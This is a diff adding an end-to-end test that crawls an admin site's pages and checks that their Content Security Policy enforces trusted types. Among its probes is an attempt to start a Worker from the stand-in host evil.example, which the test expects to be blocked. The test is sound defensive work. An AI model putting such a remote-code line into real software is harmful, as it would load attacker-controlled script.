@@ -101,6 +101,71 @@ const documentOf = (name: string) =>
     .locator("select[name=document]")
     .inputValue();
 
+/** What a page's address is one of: without what names a single thing. */
+const kindOf = ({ pathname }: URL) =>
+  pathname
+    .replace(
+      /^(\/admin\/(?:topics|series|contributors|places|publications|accounts|imports)\/)(?!new|merge)[^/]+/,
+      "$1…",
+    )
+    .replace(/\b\d+\b/g, "…");
+
+describe("every page of the editors'", () => {
+  it("breaks none of its own policy, which takes no text for HTML or for a script", {
+    timeout: 240_000,
+  }, async () => {
+    await page.addInitScript(
+      "addEventListener('securitypolicyviolation', ({ violatedDirective, sample }) => console.error(violatedDirective + ': ' + sample))",
+    );
+    const waiting = ["/admin", path, `/admin/publications/${publication}/edit`, `/p/${publication}`];
+    const seen = new Map<string, string>();
+    const wrong: string[] = [];
+    for (let next = waiting.shift(); next !== undefined; next = waiting.shift()) {
+      const address = new URL(next, site.url);
+      const kind = kindOf(address);
+      if (seen.has(kind)) continue;
+      complaints = [];
+      const answer = await page.goto(address.pathname + address.search).catch(() => null);
+      // What is a download is no page.
+      if (!answer?.headers()["content-type"]?.startsWith("text/html")) continue;
+      seen.set(kind, answer.headers()["content-security-policy"] ?? "");
+      // What only a session may see, a token does not.
+      const refused = answer.status() === 403;
+      const said = complaints.filter((complaint) => !(refused && complaint.includes("403")));
+      if (said.length > 0) wrong.push(`${kind}: ${said.join(" | ")}`);
+      const links = await page
+        .locator("a[href^='/admin']")
+        .evaluateAll((all) => all.map((each) => each.getAttribute("href") ?? ""));
+      waiting.push(...links.filter((link) => !/sign-out|\.(?:csv|xlsx|json|svg|png)\b/.test(link)));
+    }
+    expect(wrong).toEqual([]);
+    expect([...seen.keys()]).toEqual(
+      expect.arrayContaining([
+        "/admin",
+        "/admin/files",
+        "/admin/import",
+        "/admin/publications/new",
+        "/admin/settings",
+      ]),
+    );
+    expect(seen.size).toBeGreaterThan(25);
+    for (const [kind, policy] of seen) {
+      if (kind.startsWith("/admin")) expect(policy, kind).toContain("require-trusted-types-for 'script'");
+    }
+    // And what it takes, it takes for that only.
+    await page.goto("/admin/publications/new");
+    complaints = [];
+    for (const attempt of [
+      "document.body.innerHTML = '<b>text</b>'",
+      "new Worker('/admin/assets/elsewhere.js')",
+      "new Worker('https://evil.example/worker.js')",
+    ])
+      await page.evaluate(`try { ${attempt}; console.error("was let through") } catch {}`);
+    expect(complaints.filter((complaint) => complaint.includes("was let through"))).toEqual([]);
+    expect(complaints.length).toBeGreaterThan(2);
+  });
+});
+
 describe("the page of a publication's files", () => {
   it("takes several files that are dragged in, each to the document that its name says, with text and picture", async () => {
     await page.goto(path);
